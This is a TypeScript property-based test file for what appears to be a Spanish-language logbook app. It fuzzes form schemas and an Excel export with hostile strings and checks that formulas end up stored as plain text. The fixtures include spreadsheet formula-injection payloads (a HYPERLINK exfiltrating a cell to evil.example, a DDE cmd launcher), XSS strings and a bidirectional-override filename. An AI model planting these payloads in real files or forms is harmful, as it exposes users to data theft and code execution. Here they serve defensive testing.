/**
 * Random and hostile text (huge strings, control characters, bidirectional overrides, non-characters, emoji, HTML,
 * spreadsheet formulas) fed through every schema of shared/schemas and through the workbook builder: nothing throws,
 * every refusal is a Spanish message, and a formula-like value reaches Excel as text, never as a formula.
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { construirLibroBitacora, HOJA_BITACORA } from '../../../shared/workbook';
import { hoja, leerLibro } from '../workbook/leer';
import { PALABRAS_INGLES } from './ingles';

const HOSTILES = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Clic")',
  '=1+1',
  '+52 55 1234 5678',
  '-2+3',
  '@SUM(A1:A9)',
  '=cmd|\' /C calc\'!A0',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'Juan \u202Egnp.exe',
  'texto\uFFFE\uFFFF',
  'tab\tsalto\nretorno\r\u0000nulo\u001b[31m',
  '👨‍👩‍👧‍👦 Familia 🇲🇽',
  'x'.repeat(100_000),
  '',
  '   ',
];

/** Random text with the hostile pieces mixed in. */
const textoHostil = fc.oneof(
  fc.constantFrom(...HOSTILES),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.tuple(fc.constantFrom(...HOSTILES), fc.string({ maxLength: 40 })).map(([a, b]) => a + b),
  fc.tuple(fc.constantFrom('=', '+', '-', '@'), fc.string({ maxLength: 60 })).map(([a, b]) => a + b),
);

const modulos = import.meta.glob<Record<string, unknown>>('../../../shared/schemas/*.ts', { eager: true });
const esquemas: [string, z.ZodType][] = Object.entries(modulos).flatMap(([archivo, m]) =>
  Object.entries(m)
    .filter((e): e is [string, z.ZodType] => e[1] instanceof z.ZodType)
    .map(([nombre, s]) => [`${archivo.replace(/^.*shared\//, '')} ${nombre}`, s] as [string, z.ZodType]),
);

function campos(s: z.ZodType): string[] {
  let actual: unknown = s;
  for (let i = 0; i < 5 && actual; i++) {
    if (actual instanceof z.ZodObject) return Object.keys(actual.shape as object);
    const def = (actual as { def?: { in?: unknown; innerType?: unknown; schema?: unknown } }).def;
    actual = def?.innerType ?? def?.in ?? def?.schema;
  }
  return [];
}

function mensajesIngles(s: z.ZodType, valor: unknown): string[] {
  const r = s.safeParse(valor);
  return r.success ? [] : r.error.issues.map((i) => i.message).filter((m) => PALABRAS_INGLES.test(m) || m.trim() === '');
}

describe('hostile text through every form schema', () => {
  it('finds the schemas', () => {
    expect(esquemas.length).toBeGreaterThan(30);
  });

  it.each(esquemas)('%s: never throws, refuses only in Spanish', (_nombre, s) => {
    const nombres = campos(s);
    fc.assert(
      fc.property(textoHostil, fc.dictionary(fc.constantFrom(...(nombres.length ? nombres : ['x'])), textoHostil), (valor, objeto) => {
        expect(mensajesIngles(s, valor)).toEqual([]);
        expect(mensajesIngles(s, objeto)).toEqual([]);
        const todos = Object.fromEntries(nombres.map((n) => [n, valor]));
        expect(mensajesIngles(s, todos)).toEqual([]);
      }),
      { numRuns: 25 },
    );
  });
});

describe('hostile text through the workbook builder', () => {
  it('writes every value as text, never as a formula', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(textoHostil, { minLength: 1, maxLength: 4 }), textoHostil, async (resumenes, usuario) => {
        const bytes = await construirLibroBitacora({
          entradas: resumenes.map((resumen, i) => ({
            id: `e${i}`,
            fecha: '2026-03-02T06:10:00.000Z',
            secuencia: i + 1,
            accion: 'crear' as const,
            entidad: 'solicitud' as const,
            resumen,
            usuario,
            estacion: 'V1',
            entidadId: null,
            cambios: null,
          })),
          filtros: [usuario],
          municipio: resumenes[0],
          usuario,
          generado: new Date('2026-03-10T12:30:00-06:00'),
        });
        const h = hoja(await leerLibro(bytes), HOJA_BITACORA);
        h.eachRow((fila) =>
          fila.eachCell((celda) => {
            expect(celda.type, celda.address).not.toBe(ExcelJS.ValueType.Formula);
            expect(celda.formula, celda.address).toBeUndefined();
          }),
        );
      }),
      { numRuns: 12 },
    );
  }, 60_000);

  it('a formula typed in a field is in its cell as the same text', async () => {
    const formula = '=HYPERLINK("http://evil.example/","Clic")';
    const bytes = await construirLibroBitacora({
      entradas: [{ id: 'a', fecha: '2026-03-02T06:10:00.000Z', secuencia: 1, accion: 'crear', entidad: 'solicitud', resumen: formula, usuario: '@ana', estacion: 'V1', entidadId: null, cambios: null }],
      filtros: [],
      municipio: 'San Pedro',
      usuario: '+ana',
      generado: new Date('2026-03-10T12:30:00-06:00'),
    });
    const h = hoja(await leerLibro(bytes), HOJA_BITACORA);
    const celdas: ExcelJS.Cell[] = [];
    h.eachRow((fila) => fila.eachCell((celda) => celdas.push(celda)));
    const celda = celdas.find((c) => typeof c.value === 'string' && c.value.includes('HYPERLINK'));
    expect(celda?.type).toBe(ExcelJS.ValueType.String);
    expect(celda?.value).toBe(formula);
  });

  it('characters XML forbids (U+FFFE, U+FFFF, control characters) are left out, so Excel opens the file', async () => {
    const bytes = await construirLibroBitacora({
      entradas: [{ id: 'a', fecha: '2026-03-02T06:10:00.000Z', secuencia: 1, accion: 'crear', entidad: 'solicitud', resumen: 'Solicitud\uFFFE de \u0007Ana\uFFFF 🇲🇽', usuario: 'Ana', estacion: 'V1', entidadId: null, cambios: null }],
      filtros: [],
      municipio: 'San\u0007 Pedro',
      // The user's name becomes the file's author (docProps/core.xml), outside every cell.
      usuario: 'Ana\uFFFE\uFFFF',
      generado: new Date('2026-03-10T12:30:00-06:00'),
    });
    const h = hoja(await leerLibro(bytes), HOJA_BITACORA);
    const textos: unknown[] = [];
    h.eachRow((fila) => fila.eachCell((celda) => textos.push(celda.value)));
    expect(textos).toContain('Solicitud de Ana 🇲🇽');
    const libro = await leerLibro(bytes);
    expect(libro.creator).toBe('Ana');
    expect(libro.company).toBe('San Pedro');
  });
});
